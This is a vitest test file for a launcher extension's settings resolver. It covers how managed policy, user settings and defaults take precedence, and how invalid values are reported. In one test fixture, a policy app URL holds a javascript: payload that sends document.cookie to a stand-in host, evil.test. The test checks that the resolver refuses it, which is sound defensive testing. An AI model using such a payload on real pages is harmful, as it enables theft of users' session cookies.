import { describe, expect, it } from 'vitest';
import { ACR_MFA, LAUNCHER_CLIENT_ID } from '../../contract/constants';
import {
  defaultSettings,
  isIdentityChange,
  type PolicyProblem,
  resolveSettings,
  type Settings,
} from './resolve';
import { OPTIONS_SECTIONS } from './schema';

const ADMIN_PORTAL = 'https://portal.acme.example';
const USER_PORTAL = 'https://portal.user.example';

function problemFor(problems: PolicyProblem[], key: string | null, source: 'managed' | 'user') {
  return problems.find((problem) => problem.key === key && problem.source === source);
}

describe('resolveSettings: defaults', () => {
  it('A11: no policy and no user settings give the documented defaults and nothing forced', () => {
    const { settings, forced, problems } = resolveSettings({ managed: undefined, user: undefined });
    expect(settings).toEqual<Settings>({
      portalUrl: null,
      clientId: LAUNCHER_CLIENT_ID,
      brandName: 'Portal Launcher',
      brandColor: null,
      brandLogoUrl: null,
      pinnedApps: [],
      stepUpMaxAgeSeconds: 300,
      appStepUpMaxAge: {},
      idleSignOutMinutes: null,
      allowUserPortalUrl: true,
      optionsSections: [...OPTIONS_SECTIONS],
      stepUpAcrValue: ACR_MFA,
      adminContact: null,
      stepUpAssurance: {},
      apps: [],
      theme: 'system',
      language: null,
    });
    expect(forced.size).toBe(0);
    expect(problems).toEqual([]);
  });

  it('C8: results do not share mutable defaults', () => {
    const first = resolveSettings({ managed: {}, user: {} });
    first.settings.pinnedApps.push('x');
    first.settings.optionsSections.length = 0;
    const second = resolveSettings({ managed: {}, user: {} });
    expect(second.settings.pinnedApps).toEqual([]);
    expect(second.settings.optionsSections).toEqual([...OPTIONS_SECTIONS]);
    expect(defaultSettings().optionsSections).toHaveLength(OPTIONS_SECTIONS.length);
  });
});

describe('resolveSettings: precedence managed > user > default', () => {
  // [case, managed, user, expected portalUrl, portalUrl forced?]
  it.each([
    ['neither', {}, {}, null, false],
    ['user only', {}, { portalUrl: USER_PORTAL }, USER_PORTAL, false],
    ['managed only', { portalUrl: ADMIN_PORTAL }, {}, ADMIN_PORTAL, true],
    ['both: managed wins', { portalUrl: ADMIN_PORTAL }, { portalUrl: USER_PORTAL }, ADMIN_PORTAL, true],
    [
      'managed invalid: user applies',
      { portalUrl: 'http://portal.acme.example' },
      { portalUrl: USER_PORTAL },
      USER_PORTAL,
      false,
    ],
    ['managed invalid, no user: default', { portalUrl: 'http://portal.acme.example' }, {}, null, false],
    ['user null: default', {}, { portalUrl: null }, null, false],
    ['user invalid: default', {}, { portalUrl: 'javascript:alert(1)' }, null, false],
    [
      'user may not choose, managed set',
      { portalUrl: ADMIN_PORTAL, allowUserPortalUrl: false },
      { portalUrl: USER_PORTAL },
      ADMIN_PORTAL,
      true,
    ],
    [
      'user may not choose, managed invalid: user ignored too',
      { portalUrl: 'http://portal.acme.example', allowUserPortalUrl: false },
      { portalUrl: USER_PORTAL },
      null,
      true,
    ],
    [
      'user may not choose, managed missing: user ignored',
      { allowUserPortalUrl: false },
      { portalUrl: USER_PORTAL },
      null,
      true,
    ],
    [
      'user may choose explicitly',
      { allowUserPortalUrl: true },
      { portalUrl: USER_PORTAL },
      USER_PORTAL,
      false,
    ],
  ])('A11: portalUrl, %s', (_case, managed, user, expected, isForced) => {
    const { settings, forced } = resolveSettings({ managed, user });
    expect(settings.portalUrl).toBe(expected);
    expect(forced.has('portalUrl')).toBe(isForced);
  });

  it('A11: user theme and language apply, and managed-only keys come from policy', () => {
    const { settings, forced } = resolveSettings({
      managed: { brandName: 'Acme', stepUpMaxAgeSeconds: 120, pinnedApps: ['payroll', 'wiki'] },
      user: { theme: 'dark', language: 'fr-ca' },
    });
    expect(settings.theme).toBe('dark');
    expect(settings.language).toBe('fr-CA');
    expect(settings.brandName).toBe('Acme');
    expect(settings.stepUpMaxAgeSeconds).toBe(120);
    expect(settings.pinnedApps).toEqual(['payroll', 'wiki']);
    expect([...forced].sort()).toEqual(['brandName', 'pinnedApps', 'stepUpMaxAgeSeconds']);
  });

  it('A11: a user cannot set policy-only keys through stored settings', () => {
    const { settings, forced, problems } = resolveSettings({
      managed: {},
      user: { clientId: 'evil-client', stepUpAcrValue: 'urn:weak', theme: 'light' },
    });
    expect(settings.clientId).toBe(LAUNCHER_CLIENT_ID);
    expect(settings.stepUpAcrValue).toBe(ACR_MFA);
    expect(settings.theme).toBe('light');
    expect(forced.size).toBe(0);
    expect(problemFor(problems, 'clientId', 'user')?.message).toContain('does not use');
    expect(problemFor(problems, 'stepUpAcrValue', 'user')).toBeDefined();
  });
});

describe('resolveSettings: forced detection', () => {
  it('A11: a present managed key is forced even when it equals the default', () => {
    const { forced } = resolveSettings({
      managed: { clientId: LAUNCHER_CLIENT_ID, allowUserPortalUrl: true },
      user: {},
    });
    expect([...forced].sort()).toEqual(['allowUserPortalUrl', 'clientId']);
  });

  it('A11: an admin who sets an empty brand name forced an empty brand name', () => {
    const { settings, forced, problems } = resolveSettings({ managed: { brandName: '' }, user: {} });
    expect(settings.brandName).toBe('');
    expect(forced.has('brandName')).toBe(true);
    expect(problems).toEqual([]);
  });

  it('A11: an empty brand colour or logo forces "none" over the default', () => {
    const { settings, forced } = resolveSettings({ managed: { brandColor: '', brandLogoUrl: '' }, user: {} });
    expect(settings.brandColor).toBeNull();
    expect(settings.brandLogoUrl).toBeNull();
    expect(forced.has('brandColor')).toBe(true);
    expect(forced.has('brandLogoUrl')).toBe(true);
  });

  it('A11: empty managed lists are forced empty (an admin can hide every options section)', () => {
    const { settings, forced } = resolveSettings({
      managed: { optionsSections: [], pinnedApps: [] },
      user: {},
    });
    expect(settings.optionsSections).toEqual([]);
    expect(forced.has('optionsSections')).toBe(true);
    expect(forced.has('pinnedApps')).toBe(true);
  });

  it('A11: an empty portal address or client id is invalid, so it is reported and not forced', () => {
    const { settings, forced, problems } = resolveSettings({
      managed: { portalUrl: '', clientId: '' },
      user: { portalUrl: USER_PORTAL },
    });
    expect(settings.portalUrl).toBe(USER_PORTAL);
    expect(settings.clientId).toBe(LAUNCHER_CLIENT_ID);
    expect(forced.has('portalUrl')).toBe(false);
    expect(forced.has('clientId')).toBe(false);
    expect(problemFor(problems, 'portalUrl', 'managed')).toBeDefined();
    expect(problemFor(problems, 'clientId', 'managed')).toBeDefined();
  });
});

describe('resolveSettings: invalid managed values are reported and ignored', () => {
  it('A11: an http:// remote issuer is refused with a message the admin can act on', () => {
    const { settings, problems } = resolveSettings({
      managed: { portalUrl: 'http://portal.acme.example' },
      user: {},
    });
    expect(settings.portalUrl).toBeNull();
    const problem = problemFor(problems, 'portalUrl', 'managed');
    expect(problem?.message).toContain('must use https://');
    expect(problem?.message).toContain('Ask your administrator');
  });

  it('A9: a javascript: app URL drops the apps policy and is reported with its path', () => {
    const { settings, forced, problems } = resolveSettings({
      managed: {
        apps: [
          { id: 'wiki', name: 'Team Wiki', url: 'https://wiki.example.com' },
          { id: 'evil', name: 'Evil', url: 'javascript:fetch("https://evil.test/"+document.cookie)' },
        ],
      },
      user: {},
    });
    expect(settings.apps).toEqual([]);
    expect(forced.has('apps')).toBe(false);
    expect(problemFor(problems, 'apps', 'managed')?.message).toContain('apps[1].url');
  });

  it('C8: wrong types are reported per key; the valid keys still apply', () => {
    const { settings, forced, problems } = resolveSettings({
      managed: {
        portalUrl: ADMIN_PORTAL,
        brandName: 42,
        brandColor: 'blue',
        stepUpMaxAgeSeconds: '300',
        idleSignOutMinutes: 12.5,
        allowUserPortalUrl: 'false',
        optionsSections: 'mfa',
        appStepUpMaxAge: [1, 2],
        pinnedApps: { 0: 'wiki' },
        stepUpAcrValue: null,
      },
      user: {},
    });
    expect(settings.portalUrl).toBe(ADMIN_PORTAL);
    expect([...forced]).toEqual(['portalUrl']);
    expect(settings).toEqual({ ...defaultSettings(), portalUrl: ADMIN_PORTAL });
    const keys = problems.map((problem) => problem.key).sort();
    expect(keys).toEqual(
      [
        'allowUserPortalUrl',
        'appStepUpMaxAge',
        'brandColor',
        'brandName',
        'idleSignOutMinutes',
        'optionsSections',
        'pinnedApps',
        'stepUpAcrValue',
        'stepUpMaxAgeSeconds',
      ].sort(),
    );
    expect(problems.every((problem) => problem.source === 'managed')).toBe(true);
  });

  it('A11: a string "false" for allowUserPortalUrl does not lock or unlock anything', () => {
    const { settings, forced } = resolveSettings({
      managed: { allowUserPortalUrl: 'false' },
      user: { portalUrl: USER_PORTAL },
    });
    expect(settings.allowUserPortalUrl).toBe(true);
    expect(settings.portalUrl).toBe(USER_PORTAL);
    expect(forced.size).toBe(0);
  });

  it('A11: wrong types get messages that name the expected type, the value found, and the fix', () => {
    // Firefox applies no schema, so these arrive exactly as an admin typed them in policies.json.
    const { problems } = resolveSettings({
      managed: {
        idleSignOutMinutes: 'soon',
        stepUpMaxAgeSeconds: '300',
        allowUserPortalUrl: 'false',
        brandColor: 'blue',
        brandLogoUrl: 7,
        pinnedApps: ['payroll', 3],
        brandName: null,
      },
      user: undefined,
    });
    const message = (key: string) => problemFor(problems, key, 'managed')?.message;
    expect(message('idleSignOutMinutes')).toBe(
      'The policy value for idleSignOutMinutes is invalid and was ignored. It must be a number, not text (a string) ("soon"). Ask your administrator to correct the policy.',
    );
    expect(message('stepUpMaxAgeSeconds')).toContain(
      'It must be a number, not text (a string); write it without quotes: 300.',
    );
    expect(message('allowUserPortalUrl')).toContain(
      'It must be true or false, not text (a string); write it without quotes: false.',
    );
    // Unions ("" for none, or a value) explain the value's own rule, not zod's bare "Invalid input".
    expect(message('brandColor')).toContain('A colour must be written #rrggbb, for example #0b5cad.');
    expect(message('brandLogoUrl')).toContain('It must be text (a string), not a number.');
    expect(message('pinnedApps')).toContain('pinnedApps[1] must be text (a string), not a number.');
    expect(message('brandName')).toContain('It must be text (a string), not null.');
    for (const problem of problems) {
      expect(problem.message).not.toMatch(/Invalid input|received/);
      expect(problem.message).toMatch(/\. Ask your administrator to correct the policy\.$/);
    }
  });

  it('C8: oversized arrays, maps and strings are refused', () => {
    const manyApps = Array.from({ length: 501 }, (_, i) => ({
      id: `app-${i}`,
      name: `App ${i}`,
      url: 'https://a.example',
    }));
    const { settings, problems } = resolveSettings({
      managed: {
        apps: manyApps,
        pinnedApps: Array.from({ length: 10_000 }, (_, i) => `app-${i}`),
        brandName: 'x'.repeat(101),
        portalUrl: `https://portal.example.com/${'a'.repeat(5000)}`,
      },
      user: {},
    });
    expect(settings.apps).toEqual([]);
    expect(settings.pinnedApps).toEqual([]);
    expect(settings.brandName).toBe('Portal Launcher');
    expect(settings.portalUrl).toBeNull();
    expect(problems.map((problem) => problem.key).sort()).toEqual([
      'apps',
      'brandName',
      'pinnedApps',
      'portalUrl',
    ]);
  });

  it('C8: a managed policy that is not an object is reported as a whole and ignored', () => {
    for (const managed of ['https://portal.acme.example', 42, ['portalUrl'], true]) {
      const { settings, forced, problems } = resolveSettings({ managed, user: { theme: 'dark' } });
      expect(settings.theme).toBe('dark');
      expect(forced.size).toBe(0);
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatchObject({ key: null, source: 'managed' });
    }
  });

  it('C8: unknown keys are reported (with a case hint) and ignored', () => {
    const { settings, forced, problems } = resolveSettings({
      managed: { PortalURL: ADMIN_PORTAL, colour: '#ffffff' },
      user: {},
    });
    expect(settings.portalUrl).toBeNull();
    expect(forced.size).toBe(0);
    expect(problemFor(problems, 'PortalURL', 'managed')?.message).toContain('Did you mean portalUrl?');
    expect(problemFor(problems, 'colour', 'managed')?.message).not.toContain('Did you mean');
  });

  it('C8: thousands of unknown keys give a bounded list of problems', () => {
    const managed = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`junk${i}`, i]));
    const { problems } = resolveSettings({ managed, user: {} });
    expect(problems.length).toBe(21);
    expect(problems.at(-1)?.message).toContain('4980 more unknown settings');
  });

  it('C8: unknown properties inside a policy app are reported but keep the app', () => {
    const { settings, problems } = resolveSettings({
      managed: {
        apps: [{ id: 'payroll', name: 'Payroll', url: 'https://payroll.example.com', requiresMFA: true }],
      },
      user: {},
    });
    expect(settings.apps).toHaveLength(1);
    expect(settings.apps[0]?.requiresMfa).toBe(false);
    expect(problemFor(problems, 'apps', 'managed')?.message).toContain('requiresMFA');
  });

  it('A11: "allowUserPortalUrl: false" without a portal address is reported', () => {
    const { problems } = resolveSettings({ managed: { allowUserPortalUrl: false }, user: {} });
    expect(problemFor(problems, 'portalUrl', 'managed')?.message).toContain('allowUserPortalUrl is false');
  });
});

describe('resolveSettings: user values', () => {
  it('C8: invalid user values are reported with source "user" and fall back to defaults', () => {
    const { settings, problems } = resolveSettings({
      managed: {},
      user: { portalUrl: 'http://portal.user.example', theme: 'neon', language: 'not a tag' },
    });
    expect(settings.portalUrl).toBeNull();
    expect(settings.theme).toBe('system');
    expect(settings.language).toBeNull();
    expect(problems.map((problem) => [problem.key, problem.source])).toEqual([
      ['portalUrl', 'user'],
      ['theme', 'user'],
      ['language', 'user'],
    ]);
    expect(problems[0]?.message).toContain('Set it again in Settings');
  });

  it('C8: unreadable stored settings (from an older version or corruption) fall back to defaults', () => {
    const { settings, problems } = resolveSettings({ managed: {}, user: 'dark' });
    expect(settings).toEqual(defaultSettings());
    expect(problems).toEqual([expect.objectContaining({ key: null, source: 'user' })]);
  });
});

describe('isIdentityChange', () => {
  it('A11: only the portal address and client id change the identity', () => {
    const base = defaultSettings();
    expect(isIdentityChange(base, { ...base, portalUrl: ADMIN_PORTAL })).toBe(true);
    expect(isIdentityChange(base, { ...base, clientId: 'other' })).toBe(true);
    expect(isIdentityChange(base, { ...base, brandName: 'Acme', theme: 'dark' })).toBe(false);
  });
});
